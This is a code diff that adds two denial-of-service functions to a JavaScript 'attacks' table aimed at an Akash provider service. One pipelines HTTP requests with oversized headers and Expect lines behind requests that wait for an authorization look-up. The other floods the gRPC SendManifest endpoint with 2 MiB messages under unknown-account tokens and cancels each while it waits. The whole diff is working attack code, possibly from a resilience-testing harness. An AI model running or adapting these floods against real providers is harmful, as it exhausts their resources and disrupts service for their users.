@@ -164,6 +164,16 @@ const attacks = {
     });
   },
 
+  /** Behind a request that waits for a look-up. */
+  unmetExpectations: async (target, size) => {
+    await times(6, (n) => fillLookups(target, `127.0.0.${2 + n}`));
+    const waits = `GET /lease/1/1/1/status HTTP/1.1\r\nHost: a\r\nAuthorization: ${strangersToken()}\r\n\r\n`;
+    const unmet = `GET /validate HTTP/1.1\r\nHost: a\r\nExpect: x\r\nX: ${"x".repeat(28 * 1024)}\r\n\r\n`;
+    await times(size, async () => {
+      await sent(await secure(target.restPort), waits + unmet.repeat(256));
+    });
+  },
+
   /** Of four addresses, on all connections of both ports. */
   unansweredRequests: async (target, size) => {
     const call = rawFrame(frameTypes.headers, flags.endHeaders, 1, headerBlock(getStatus));
@@ -212,6 +222,18 @@ const attacks = {
         return send(call("/akash.provider.lease.v1.LeaseRPC/SendManifest", headers), bomb, true);
       });
     });
+  },
+
+  /** Of an account that the chain does not know; each is cancelled while it waits for the look-up. */
+  cancelledCalls: async (target, size) => {
+    await times(6, (n) => fillLookups(target, `127.0.0.${2 + n}`));
+    const { call } = await grpc(target);
+    const message = frame(Buffer.alloc(2 * mib));
+    for (let left = size; left > 0; left -= 1) {
+      const stream = call("/akash.provider.lease.v1.LeaseRPC/SendManifest", { authorization: strangersToken() });
+      await send(stream, message, true);
+      stream.close();
+    }
   },
 
   largeGrpcHeaders: (target, size) =>
